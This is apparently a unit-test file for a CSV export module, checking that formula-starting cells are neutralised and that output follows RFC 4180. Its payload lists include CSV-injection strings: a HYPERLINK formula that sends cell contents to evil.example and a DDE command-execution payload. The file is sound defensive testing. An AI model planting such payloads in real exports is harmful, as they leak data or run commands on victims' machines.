// Exports cannot carry a spreadsheet formula: every text cell that starts with = + - @ (or tab, CR, LF, NUL) is
// neutralised with a leading single quote (OWASP, "CSV Injection"), and the file still reads back as written.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvField, parseCsv, tableRecords, writeCsv } from '../../../functions/core/csv.js';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1',
];

describe('the CSV writer', () => {
  it('neutralises every cell that would start a formula', () => {
    for (const attack of ATTACKS) {
      const csv = writeCsv({ columns: ['name'], rows: [[attack]] });
      const cell = parseCsv(csv, 'export.csv').records[0]!.cells[0]!;
      expect(cell).toBe(`'${attack}`);
    }
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('@x, y')).toBe(`"'@x, y"`);
  });

  it('quotes a semicolon or a tab, so a spreadsheet that splits on them never starts a formula cell', () => {
    // The cells a spreadsheet sees when its locale separates on `separator` (quotes still group a cell).
    const cellsOn = (line: string, separator: string) => {
      const cells: string[] = [];
      let cell = '';
      let quoted = false;
      for (const c of line) {
        if (c === '"') quoted = !quoted;
        else if (c === separator && !quoted) {
          cells.push(cell);
          cell = '';
        } else cell += c;
      }
      return [...cells, cell];
    };
    for (const attack of [
      'Acme;=HYPERLINK("http://evil.example","x")',
      'Acme;@SUM(1+1)',
      'Acme\t=1+1',
      'a;+1',
    ])
      for (const separator of [';', '\t']) {
        const line = writeCsv({ columns: ['name'], rows: [[attack]] }).split('\r\n')[1]!;
        for (const cell of cellsOn(line, separator))
          expect(cell, `${attack} on ${separator}`).toMatch(/^[^=+\-@]/);
      }
    expect(csvField('a;b')).toBe('"a;b"');
  });

  it('leaves ordinary text and the numbers the code computed alone', () => {
    expect(csvField('Acme Payments')).toBe('Acme Payments');
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField('x = y')).toBe('x = y');
    expect(csvCell(-12)).toBe('-12');
    expect(csvCell(null)).toBe('');
    expect(csvCell(true)).toBe('true');
    // A number typed as text (from a vendor) is text: neutralised like any other.
    expect(csvCell('-12')).toBe("'-12");
  });

  it('writes RFC 4180 (CRLF, quoted fields) that reads back cell for cell', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 2 }), { maxLength: 8 }),
        (rows) => {
          const csv = writeCsv({ columns: ['a', 'b'], rows });
          expect(csv.endsWith('\r\n')).toBe(true);
          const back = parseCsv(csv, 'x.csv').records.map((r) => r.cells);
          // Rows whose cells are all empty read back as blank lines only when there is a single column; here two.
          expect(back).toHaveLength(rows.length);
          back.forEach((cells, i) =>
            cells.forEach((cell, j) => {
              const written = rows[i]![j]!;
              expect(cell).toBe(/^[=+\-@\t\r\n\0]/.test(written) ? `'${written}` : written);
              expect(cell).not.toMatch(/^[=+\-@\t\r\n\0]/);
            }),
          );
        },
      ),
    );
  });

  it('gives the same table as JSON records', () => {
    expect(
      tableRecords({
        columns: ['id', 'days'],
        rows: [
          ['a', 3],
          ['b', null],
        ],
      }),
    ).toEqual([
      { id: 'a', days: 3 },
      { id: 'b', days: null },
    ]);
  });
});
